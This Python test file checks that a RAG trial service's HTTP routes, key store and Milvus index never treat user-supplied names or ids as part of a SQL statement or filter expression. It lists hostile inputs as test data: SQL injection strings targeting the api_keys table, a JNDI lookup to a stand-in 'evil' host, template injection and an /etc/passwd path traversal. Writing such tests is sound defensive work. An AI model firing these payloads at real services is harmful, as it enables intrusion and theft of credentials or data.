"""Names and ids that try to become a part of a statement: SQL, and Milvus's filter expressions."""

import contextlib
from urllib.parse import quote

import numpy as np
import pytest
from sqlalchemy import create_engine, text

import live_service
from ragtrial.contracts import IndexParameters
from ragtrial.db.keys import KeyStore
from ragtrial.domain.corpus import Passage
from ragtrial.domain.model import ModelIdentity
from ragtrial.errors import RagtrialError
from ragtrial.formats.experiment import load_experiment, sql_url
from ragtrial.index.exact import ExactIndex
from ragtrial.index.milvus import MilvusIndex

NAMES = (
    "x'; DROP TABLE api_keys; --",
    'x" OR "1"="1',
    "x') UNION SELECT digest FROM api_keys --",
    "x\\",
    "x\\' OR 1=1 --",
    "%",
    "_",
    "x%' OR '1' LIKE '%",
    "x/*",
    "*/",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "../../../etc/passwd",
    "%00",
    "x\u2028y",
    "ｘ＇ OR 1=1",  # noqa: RUF001
)


@pytest.fixture(scope="module")
def service(tmp_path_factory):
    with live_service.live(live_service.live_experiment(tmp_path_factory.mktemp("service"))) as running:
        yield running


def tables(url: str) -> dict[str, int]:
    engine = create_engine(url)
    with engine.connect() as connection:
        names = [
            row[0] for row in connection.execute(text("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite%'"))
        ]
        return {name: connection.execute(text(f'SELECT count(*) FROM "{name}"')).scalar_one() for name in names}  # noqa: S608 - the schema's own


def test_no_name_in_a_request_becomes_sql(service):
    url = sql_url(load_experiment(service.path))
    with service.client("admin") as admin, service.client("tester") as tester:
        before = tables(url)
        for name in NAMES:
            for route in (
                "/v1/experiments/{}",
                "/v1/experiments/{}/analysis",
                "/v1/experiments/{}/audit",
                "/v1/trials/{}",
                "/v1/answers/{}",
                "/v1/comparisons/{}",
            ):
                answered = admin.get(route.format(quote(name, safe="")))
                assert answered.status_code in (307, 400, 404), (route, name, answered.text)
                assert "SQL" not in answered.text.replace(name, "")
            assert tester.post("/v1/feedback", json={"trial_id": name, "thumb": "up"}).status_code == 404
            assert tester.post("/v1/preferences", json={"comparison_id": name, "choice": "left"}).status_code == 404
        asked = [
            tester.post("/v1/ask", json={"query": name, "unit": name}, headers={"Idempotency-Key": f"k{n}"}).json()
            for n, name in enumerate(NAMES)
        ]
        votes = [
            tester.post("/v1/feedback", json={"trial_id": each["trial_id"], "thumb": "down", "tags": [name], "comment": name})
            for name, each in zip(NAMES, asked, strict=True)
        ]
        assert {vote.status_code for vote in votes} == {200}
        after = tables(url)
        kept = [admin.get(f"/v1/trials/{each['trial_id']}").json() for each in asked]
    assert after.keys() == before.keys()
    assert after["api_keys"] == before["api_keys"]
    assert after["live_trials"] - before["live_trials"] == len(NAMES)
    assert [trial["query"] for trial in kept] == list(NAMES)


def test_no_name_of_a_key_and_no_token_becomes_sql(tmp_path):
    with KeyStore(f"sqlite:///{tmp_path / 'keys.db'}") as store:
        made = {}
        for name in NAMES:
            with contextlib.suppress(RagtrialError):
                made[name] = store.create(name, "tester", pepper="p")
        for name, token in made.items():
            assert store.find(token, "p").name == name
        for token in (*NAMES, "rt_' OR '1'='1_x", "rt_%_%", "rt__"):
            assert store.find(token, "p") is None


GROUPS = ('a" or group != "', "a' or 1 == 1", "a\\", 'a\\" or group like "%', "a\nb", "a\tb", "ä%_", 'a"', "\\")


@pytest.mark.parametrize("kind", ["exact", "lite"])
def test_no_id_and_no_group_becomes_a_part_of_a_filter(kind, tmp_path):
    model = ModelIdentity(name="m", revision="r", settings=(), dimension=8)
    rng = np.random.default_rng(3)
    groups = [group for group in GROUPS for _ in range(2)]
    items = [
        Passage(passage_id=f"{group}#{n}", document_id=f"d{n}", text=f"text {n:02}", start=0, end=7, group=group)
        for n, group in enumerate(groups)
    ]
    rows = rng.normal(size=(len(items), 8)).astype(np.float32)
    rows /= np.linalg.norm(rows, axis=1, keepdims=True)
    parameters = IndexParameters(type="FLAT", metric="COSINE", build={}, search={}, partition="0a1b2c3d4e5f")
    index = ExactIndex() if kind == "exact" else MilvusIndex(str(tmp_path / "milvus.db"))
    with contextlib.closing(index):
        index.create("c", model=model, corpus="f", parameters=parameters)
        index.insert("c", items, rows)
        index.finish("c")
        found = index.search("c", rows[:1].repeat(len(GROUPS), axis=0), top_k=10, model=model, groups=GROUPS)
    assert [sorted(hit.passage_id for hit in hits) for hits in found] == [
        sorted(p.passage_id for p in items if p.group == g) for g in GROUPS
    ]
